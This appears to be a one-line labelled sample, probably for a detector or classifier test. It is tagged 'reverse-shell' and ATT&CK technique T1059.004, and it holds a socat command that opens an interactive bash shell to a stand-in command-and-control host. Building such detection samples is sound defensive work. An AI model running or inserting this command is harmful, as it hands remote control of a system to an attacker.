# expect: reverse-shell | source: T1059.004
socat TCP:c2.example.invalid:443 EXEC:'bash -li',pty,stderr
